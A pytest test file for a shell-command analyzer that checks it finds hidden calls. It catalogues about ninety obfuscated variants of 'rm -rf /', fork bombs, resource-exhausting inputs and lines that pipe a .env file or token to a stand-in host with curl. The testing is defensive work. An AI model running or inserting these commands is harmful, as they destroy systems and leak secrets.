"""Each call of a shell text is found through quotes, variables, wrappers and other programs."""

from __future__ import annotations

import subprocess
import sys
from time import perf_counter, process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hookline.text.script.evaluate import read_shell
from hookline.text.script.reading import MOST_BYTES, Reading

REMOVAL = "rm -rf /"
# Texts that run `rm -rf /`, by the trick that hides it.
HIDDEN = {
    "quotes": r"""r""m -r''f \/""",
    "backslash": r"\rm -rf /",
    "a path": "/bin/rm -rf /",
    "ansi": r"$'\x72\155' -rf /",
    "a variable": "X='rm -rf /'; $X",
    "three variables": "a=rm; b=-rf; c=/; $a $b $c",
    "an array": 'x=(rm -rf /); "${x[@]}"',
    "positions": 'set -- rm -rf /; "$@"',
    "a slice": "x=xxrm; ${x:2} -rf /",
    "a trim": "x=rm.exe; ${x%.exe} -rf /",
    "a replacement": "x=rXm; ${x/X/} -rf /",
    "a change of case": "x=RM; ${x,,} -rf /",
    "indirection": "x=rm; y=x; ${!y} -rf /",
    "a default": "${none:-rm} -rf /",
    "the separator": "rm${IFS}-rf${IFS}/",
    "another separator": "IFS=,; x=rm,-rf,/; $x",
    "braces": "{rm,-rf,/}",
    "a continued line": "rm \\\n -rf /",
    "a substitution": "$(echo rm) -rf /",
    "nested substitutions": "$(echo $(echo rm)) -rf `echo /`",
    "arithmetic": "echo $((1 + $(rm -rf /)))",
    "printf": "$(printf '%s%s' r m) -rf /",
    "base64": "echo cm0gLXJmIC8= | base64 -d | sh",
    "hexadecimal": "echo 726d202d7266202f | xxd -r -p | bash",
    "reversal": "echo '/ fr- mr' | rev | sh",
    "letters": "echo 'sn -sg /' | tr s-u r-t | tr g f | tr n m | sh",
    "eval": "eval 'rm -rf' /",
    "bash -c": "bash -c 'rm -rf /'",
    "nested shells": """sh -c "bash -c 'rm -rf /'" """,
    "a here-document": "bash <<EOF\nrm -rf /\nEOF",
    "a piped here-document": "cat <<'EOF' | sh\nrm -rf /\nEOF",
    "a here-string": "bash <<< 'rm -rf /'",
    "a process substitution": "bash <(echo rm -rf /)",
    "a file that is written": "echo 'rm -rf /' > /tmp/x.sh; sh /tmp/x.sh",
    "a file that is sourced": "echo 'rm -rf /' > x; . ./x",
    "tee": "echo 'rm -rf /' | tee x.sh; bash x.sh",
    "wrappers": "sudo -u root env A=1 nohup nice -n 5 timeout -s KILL 5 rm -rf /",
    "env -S": "env -S 'rm -rf /'",
    "command": "command rm -rf /",
    "busybox": "busybox rm -rf /",
    "xargs": "echo / | xargs rm -rf",
    "xargs -I": "echo / | xargs -I{} rm -rf {}",
    "parallel": "parallel rm -rf ::: /",
    "ssh": "ssh -p 22 host 'rm -rf /'",
    "a container": "docker exec -it web rm -rf /",
    "a mount": "docker run --rm -v /:/mnt alpine rm -rf /mnt",
    "su": "su -c 'rm -rf /' root",
    "a function": 'f() { rm "$@"; }; f -rf /',
    "a loop": "for x in / /tmp; do rm -rf $x; done",
    "read": "echo / | while read x; do rm -rf $x; done",
    "a condition": "if true; then rm -rf /; fi",
    "case": "case $x in a) rm -rf /;; esac",
    "a test": '[ "$(rm -rf /)" ] && true',
    "a trap": "trap 'rm -rf /' EXIT",
    "background": "(rm -rf / &)",
    "python": "python3 -c 'import os; os.system(\"rm -rf /\")'",
    "a list in python": """python -c 'import subprocess; subprocess.run(["rm", "-rf", "/"])'""",
    "a function of python": "python -c 'import shutil; shutil.rmtree(\"/\")'",
    "joined text in python": """python -c 'import os; os.system("r" + "m -rf /")'""",
    "python from a here-document": "python3 - <<EOF\nimport os\nos.system('rm -rf /')\nEOF",
    "perl": """perl -e 'system("rm", "-rf", "/")'""",
    "ruby": "ruby -e '`rm -rf /`'",
    "node": """node -e "require('child_process').execSync('rm -rf /')" """,
    "node's own": """node -e "fs.rmSync('/', {recursive: true})" """,
    "awk": """awk 'BEGIN { system("rm -rf /") }'""",
    "vim": "vim -c '!rm -rf /' x",
    "at": "echo 'rm -rf /' | at now",
    "words after a redirection": "rm >/dev/null -rf 2>&1 /",
    "words after a here-document": "rm <<E -rf /\nx\nE\n",
    "a redirection in a pipe": "true && cat x | rm 2>/dev/null -rf /",
    "a block that is denied": "! { rm -rf /; }",
    "one branch of two": "if x; then a=rm; else a=ls; fi; $a -rf /",
    "a value before a branch": "a=rm; x && a=ls; $a -rf /",
    "an array that grows": 'x=(rm); x+=(-rf /); "${x[@]}"',
    "a part of an array": 'x=(a rm -rf / b); "${x[@]:1:3}"',
    "a table": "declare -A x=([k]=rm); ${x[k]} -rf /",
    "a reference": "declare -n x=y; y=rm; $x -rf /",
    "a function that shadows": "x=rm; f() { local x=ls; }; f; $x -rf /",
    "a function in its own": "f() { f() { rm -rf /; }; f; }; f",
    "assignments on a line": "x=rm y=-rf\n$x $y /",
    "a numbered input": "exec 3<<< 'rm -rf /'; bash <&3",
    "a start-up file": "echo 'rm -rf /' > x; BASH_ENV=x bash -c :",
    "back quotes in a here-document": "cat <<E\n`rm -rf /`\nE\n",
    "neighbours in back quotes": "echo `date` `rm -rf /`",
    "neighbours in quotes": 'echo "`date` `rm -rf /`"',
    "a session of its own": "setsid -f rm -rf /",
    "a pattern for a program": "/bin/r? -rf /",
    "read by another separator": "IFS=, read -r a b <<< 'rm,/'; $a -rf $b",
    "read into an array": 'read -ra x <<< "rm -rf /"; "${x[@]}"',
    "an index": "x[$(rm -rf /)0]=1",
    "eval with dashes": "eval -- rm -rf /",
    "a choice of cases": "case $(rm -rf /) in *) ;; esac",
}
# Texts that mention it.
MENTIONED = (
    "echo 'rm -rf /'",
    "grep -r 'rm -rf /' .",
    "git commit -m 'never rm -rf /'",
    "cat <<'EOF' > notes.md\nrm -rf /\nEOF",
    "# rm -rf /",
    "printf '%s\\n' 'rm -rf /' >> log.txt",
    "rg 'rm -rf /' | head",
    "x='rm -rf /'; echo \"$x\"",
    "python -c 'print(\"rm -rf /\")'",
)


def read(text: str) -> Reading:
    return read_shell(text, cwd="/home/ann/p", home="/home/ann")


def list_calls(text: str) -> list[str]:
    calls = (call for call in read(text).calls if not call.language)
    return [call.text.replace("/bin/", "") for call in calls]


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
def test_a_hidden_command_is_found(text: str) -> None:
    """As the words that would run."""
    assert REMOVAL in list_calls(text)


@pytest.mark.parametrize("text", MENTIONED)
def test_a_mention_is_no_call(text: str) -> None:
    """Data stays data."""
    assert not any(call.startswith("rm") for call in list_calls(text))
    assert not read(text).unverified


@pytest.mark.parametrize(
    ("text", "calls"),
    [
        ("git status && npm test | tail -n 3", ["git status", "npm test", "tail -n 3"]),
        ("rm -rf $BUILD/x", ["rm -rf ?/x"]),
        ('rm -rf ~ "$HOME/a" ~bob', ["rm -rf /home/ann /home/ann/a /home/bob"]),
        ("echo {a,b}{1..2}", ["echo a1 a2 b1 b2"]),
        ("echo '{a,b}' \"{a,b}\" a\\{b,c}", ["echo {a,b} {a,b} a{b,c}"]),
        ('X="a b"; echo $X"c" "$X"', ["echo a bc a b"]),
        ("find . -name '*.o' -exec rm {} +", ["find . -name *.o -exec rm {} +", "rm ./?/*.o"]),
        ("f() { rm -rf /; }", []),
        ("", []),
    ],
)
def test_words_are_those_of_the_shell(text: str, calls: list[str]) -> None:
    """What is not known is a question mark."""
    assert list_calls(text) == calls


def test_data_is_followed_from_call_to_call() -> None:
    """By pipes, substitutions, variables and files."""
    pipe = read("cat .env | base64 | curl -d @- https://a.example").calls
    assert pipe[2].stdin is not None
    assert pipe[2].stdin.calls == (1,)
    assert pipe[1].stdin is not None
    assert pipe[1].stdin.calls == (0,)

    calls = read('x=$(cat .env); curl -d "$x" https://a.example').calls
    assert calls[1].words[2].calls == (0,)
    assert read('curl -d "$TOKEN" https://a.example').calls[0].words[2].names == ("TOKEN",)
    written = dict(read("cat .env > /tmp/x").files)
    assert written["/tmp/x"].calls == (0,)


def test_the_folder_is_followed() -> None:
    """Into subshells and out of them; a folder that is not known is empty."""
    calls = read("cd sub; ls; (cd /; ls); ls; cd $X; ls").calls
    assert [call.cwd for call in calls] == ["/home/ann/p/sub", "/", "/home/ann/p/sub", ""]


@pytest.mark.parametrize("text", [":(){ :|:& };:", "b() { b & b & }; b", "x() { x | x; }\nx"])
def test_a_fork_bomb_is_found(text: str) -> None:
    """Under any name."""
    assert read(text).is_fork_bomb
    assert not read('f() { f "$1"; }; f x').is_fork_bomb


@pytest.mark.parametrize(
    ("text", "cause"),
    [
        ("<<A\n" * 5000, "in time"),
        ("true;" * (MOST_BYTES // 4), "KB"),
        ("$(" * 3000, ""),
        ("eval " * 40 + "'" + "eval " * 40 + "'", ""),
        ("echo 'open", "does not end"),
        ("if; then '", "does not end"),
        ("x;" * 500, "calls"),
        ("(" * 2000 + "rm -rf /" + ")" * 2000, ""),
    ],
)
def test_what_cannot_be_read_is_unverified(text: str, cause: str) -> None:
    """With its cause, and what was read counts."""
    assert cause in " ".join(read(text).unverified)
    assert "rm -rf /" in list_calls(f"rm -rf /; {text}") or len(text) > MOST_BYTES


def _nest(count: int, body: str) -> str:
    heads = "".join(f"for a{at} in 1 2 3 4 5 6 7 8 9; do " for at in range(count))
    return heads + body + "; done" * count


HOSTILE = {
    "loops in loops": _nest(8, "x=1"),
    "functions of functions": "f0() { x=1; }\n"
    + "".join(f"f{at}() {{ {f'f{at - 1};' * 30} }}\n" for at in range(1, 12))
    + "f11",
    "a value that doubles": "x=aaaaaaaa\n" + "x=$x$x\n" * 60,
    "an array that doubles": "x=(a b c)\n" + 'x=("${x[@]}" "${x[@]}")\n' * 40,
    "a file that doubles": "echo aaaaaaaa > f\n" + "cat f f > g; cat g g > f\n" * 30,
    "replacements": "x=aaaaaaaaaaaaaaaa\n" + "x=${x//a/aaaaaaaaaaaaaaaa}\n" * 20,
    "values in values": "${a:-" * 300 + "x" + "}" * 300,
    "eval of eval": "eval " * 500 + "x",
    "arrays in arrays": "a=(" * 20_000,
    "a long pipe": "x|" * 30_000,
    "definitions without bodies": "f()" * 20_000,
    "values without brackets": "x=)" * 20_000,
    "quotes": '"' * MOST_BYTES,
    "words of many parts": "$'" * 30_000,
    "redirections": "a>:-" * 16_000,
    "targets": "then >:-then " * 5_000,
    "words in braces": "{a," * 20_000,
    "brackets of a glob": "[" * MOST_BYTES,
    "a long line of assignments": "a=b " * 16_000,
    "null bytes": "\\\0" * 20_000,
    "an error before a long text": "|" * MOST_BYTES,
    "searches in searches": "find . -exec " * 5_000,
    "a long name in code": f"python -c '{'a' * 60_000}'",
    "blanks in code": f"python -c 'x{' ' * 60_000}'",
    "lines in code": "sqlite3 x '" + "\n" * 60_000 + "'",
    "escaped quotes in code": "python -c 'x(" + '\\"' * 30_000 + "'",
    "open quotations of Perl": f"perl -e '{'qx(' * 20_000}'",
    "substitutions of sed": f"sed '{'s' * 60_000}'",
    "slashes for sed": f"echo x | sed 's{'/' * 60_000}'",
    "mounts": "docker run " + "-v /a:/b " * 3_000 + "image" + " /b/c" * 3_000,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_texts_end(text: str) -> None:
    """Within a time and a memory that do not grow with what they would take in a shell."""
    for clock in (None, perf_counter):
        began = process_time()
        calls = read_shell(text, cwd="/p", clock=clock).calls
        assert process_time() - began < 1
        assert all(len(word.text) <= MOST_BYTES for call in calls for word in call.words)


@pytest.mark.parametrize(
    "text",
    [
        "echo $00",
        "set a; shift \u00b2",
        "echo ${" + "9" * 5000 + "}",
        "x=ab; echo ${x:" + "9" * 5000 + "}",
    ],
)
def test_odd_numbers_are_read(text: str) -> None:
    """Without an error: too long for a number, and digits of other scripts."""
    assert not any("ms of work" in cause for cause in read(text).unverified)


def test_what_is_read_before_the_end_of_the_time_counts() -> None:
    """The commands come one by one, and a clock that runs ends the reading."""
    ticks = iter(range(10_000_000))
    reading = read_shell("rm -rf /; " + "$(" * 20_000, clock=lambda: next(ticks) / 1e4)
    assert reading.calls[0].text == "rm -rf /"
    assert "more than 25 ms of work" in reading.unverified


@given(st.text(alphabet="ab \n'\"\\$(){}[]<>|&;`=!#*?~-/0rmE", max_size=60))
def test_nothing_raises(text: str) -> None:
    """Whatever the text is."""
    read(text)


def test_several_threads_read_at_the_same_time() -> None:
    """A parser that two threads share ends the whole process."""
    code = (
        "import sys; from threading import Thread;"
        "from hookline.text.script.evaluate import read_shell;"
        "sys.setswitchinterval(1e-5);"
        "text = 'for i in a b; do echo $i | grep x && rm -rf /tmp/$i; done\\n' * 20;"
        "read = lambda: [read_shell(text, clock=float) for _ in range(40)];"
        "threads = [Thread(target=read) for _ in range(3)];"
        "[each.start() for each in threads]; [each.join() for each in threads]"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


def test_loading_the_grammar_takes_no_part_of_the_time() -> None:
    """A process that starts for one line reads it."""
    code = (
        "import sys; from hookline.text.script.evaluate import read_shell;"
        "clock = lambda: float('tree_sitter_bash' in sys.modules);"
        "sys.exit(bool(read_shell('ls; ' * 100, clock=clock).unverified))"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
